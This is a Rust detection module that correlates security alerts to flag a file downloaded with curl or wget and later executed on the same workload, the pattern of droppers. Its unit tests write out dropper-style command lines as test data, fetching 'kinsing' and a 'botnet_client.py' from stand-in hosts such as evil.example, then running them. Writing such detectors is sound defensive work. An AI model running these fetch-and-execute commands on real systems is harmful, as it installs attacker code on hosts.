//! Download-then-execute split over two alerts: one alert's command line fetches a file
//! (`curl -so ./x.py URL`, `wget -O /tmp/x URL`), a later alert of the same container, pod or
//! host runs that file (`python ./x.py`, `/tmp/x`). Each alert alone is a download or a program
//! starting; together they are MITRE ATT&CK T1105 (Ingress Tool Transfer) followed by execution,
//! the way droppers and piped installers work.

use regex::Regex;
use std::collections::HashMap;
use std::sync::OnceLock;

/// Files remembered per entity, and entities remembered at most.
const PER_ENTITY: usize = 8;
const ENTITIES: usize = 10_000;

/// Interpreters that take a script path as their first non-option argument.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python2", "python3", "perl", "ruby",
    "node", "nodejs", "php", "lua", "busybox",
];

fn output_flag() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    // curl `-o FILE` (also combined short flags such as `-so`, `-sSLo`) or `--output FILE`;
    // wget `-O FILE` or `--output-document=FILE`.
    R.get_or_init(|| {
        Regex::new(
            r"(?:^|[\s;&|(])(?:\S*/)?(curl|wget)\s(?:[^|;&]*?\s)?(?:-[a-zA-Z]*([oO])|--output(?:-document)?)(?:\s+|=)([^\s|;&<>]+)",
        )
        .unwrap_or_else(|_| unreachable_regex())
    })
}

fn wget_url() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    // wget without -O saves under the URL's last path segment.
    R.get_or_init(|| {
        Regex::new(r"(?:^|[\s;&|(])(?:\S*/)?wget\s(?:[^|;&]*?\s)?(?:https?|ftp)://[^\s/|;&]+/(?:[^\s|;&?#]*/)?([^\s/|;&?#]+)(?:[\s|;&]|$)")
            .unwrap_or_else(|_| unreachable_regex())
    })
}

// The patterns above are constants checked by the tests; a regex that matches nothing is the
// harmless fallback rather than a panic.
fn unreachable_regex() -> Regex {
    Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!("a valid constant pattern"))
}

fn normalise(path: &str) -> &str {
    let p = path.trim_matches(|c| c == '"' || c == '\'');
    p.strip_prefix("./").unwrap_or(p)
}

/// The file a command line downloads to, if it downloads to a file.
pub fn downloaded_file(cmdline: &str) -> Option<String> {
    // Every alert with a command line passes here: skip the regexes when neither tool is named.
    if !cmdline.contains("curl") && !cmdline.contains("wget") {
        return None;
    }
    if let Some(c) = output_flag().captures(cmdline) {
        let tool = c.get(1).map_or("", |m| m.as_str());
        let flag = c.get(2).map_or("", |m| m.as_str());
        let file = c.get(3).map_or("", |m| m.as_str());
        // curl's -O takes no argument (it saves under the remote name); wget's -o is its log.
        let wrong = (tool == "curl" && flag == "O") || (tool == "wget" && flag == "o");
        if !wrong && file != "-" && !file.starts_with("/dev/") {
            return Some(normalise(file).to_string());
        }
    }
    wget_url()
        .captures(cmdline)
        .and_then(|c| c.get(1))
        .map(|m| normalise(m.as_str()).to_string())
}

/// Whether a command line runs `file`: as the program, or as an interpreter's script.
pub fn runs_file(cmdline: &str, file: &str) -> bool {
    let mut words = cmdline.split_whitespace();
    let Some(first) = words.next() else {
        return false;
    };
    if normalise(first) == file {
        return true;
    }
    let base = first.rsplit('/').next().unwrap_or(first);
    let interpreter = INTERPRETERS.contains(&base)
        || (base.starts_with("python")
            && base[6..].chars().all(|c| c.is_ascii_digit() || c == '.'));
    if !interpreter {
        return false;
    }
    // The first argument that is not an option is the script (`sh -c` runs a string instead).
    for w in words {
        if w == "-c" || w == "-e" {
            return false;
        }
        if !w.starts_with('-') {
            return normalise(w) == file;
        }
    }
    false
}

/// What was downloaded where, per entity (container, pod or host).
#[derive(Debug, Default)]
pub struct Downloads {
    by_entity: HashMap<String, Vec<(String, String)>>,
}

impl Downloads {
    /// Remember the file this command line downloads, if any.
    pub fn observe(&mut self, entity: &str, cmdline: &str) {
        let Some(file) = downloaded_file(cmdline) else {
            return;
        };
        if self.by_entity.len() >= ENTITIES && !self.by_entity.contains_key(entity) {
            self.by_entity.clear();
        }
        let files = self.by_entity.entry(entity.to_string()).or_default();
        if files.iter().any(|(f, _)| *f == file) {
            return;
        }
        if files.len() >= PER_ENTITY {
            files.remove(0);
        }
        files.push((file, cmdline.chars().take(200).collect()));
    }

    /// A description of the earlier download this command line runs, if it runs one.
    pub fn executed(&self, entity: &str, cmdline: &str) -> Option<String> {
        let files = self.by_entity.get(entity)?;
        files
            .iter()
            .find(|(f, _)| runs_file(cmdline, f))
            .map(|(f, how)| format!("`{f}`, downloaded earlier on the same workload by `{how}`"))
    }

    pub fn is_empty(&self) -> bool {
        self.by_entity.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_the_file_a_download_writes() {
        assert_eq!(
            downloaded_file("curl -so ./botnet_client.py http://localhost:9090/botnet_client.py")
                .as_deref(),
            Some("botnet_client.py")
        );
        assert_eq!(
            downloaded_file("sh -c wget -q -O /tmp/x http://1.2.3.4/x && chmod +x /tmp/x")
                .as_deref(),
            Some("/tmp/x")
        );
        assert_eq!(
            downloaded_file("curl --output=/tmp/k https://e.com/k").as_deref(),
            Some("/tmp/k")
        );
        assert_eq!(
            downloaded_file("wget http://evil.example/payloads/kinsing").as_deref(),
            Some("kinsing")
        );
        // Not a file: stdout, a device, curl's -O, wget's log file.
        assert_eq!(downloaded_file("curl -o - https://e.com/x"), None);
        assert_eq!(
            downloaded_file("curl -so /dev/null https://e.com/health"),
            None
        );
        assert_eq!(downloaded_file("curl -O https://e.com/x"), None);
        assert_eq!(downloaded_file("ls -o file"), None);
    }

    #[test]
    fn tells_when_a_command_runs_the_file() {
        assert!(runs_file("python ./botnet_client.py", "botnet_client.py"));
        assert!(runs_file(
            "python3.11 -u botnet_client.py --port 1",
            "botnet_client.py"
        ));
        assert!(runs_file("/tmp/x -o pool", "/tmp/x"));
        assert!(runs_file("bash /tmp/x", "/tmp/x"));
        assert!(!runs_file("cat /tmp/x", "/tmp/x"));
        assert!(!runs_file("sh -c echo /tmp/x", "/tmp/x"));
        assert!(!runs_file("python other.py", "botnet_client.py"));
    }

    #[test]
    fn remembers_per_entity() {
        let mut d = Downloads::default();
        d.observe("container:a", "curl -so ./c.py http://h:9090/c.py");
        assert!(d.executed("container:a", "python ./c.py").is_some());
        assert!(d.executed("container:b", "python ./c.py").is_none());
        assert!(d.executed("container:a", "python ./other.py").is_none());
    }
}
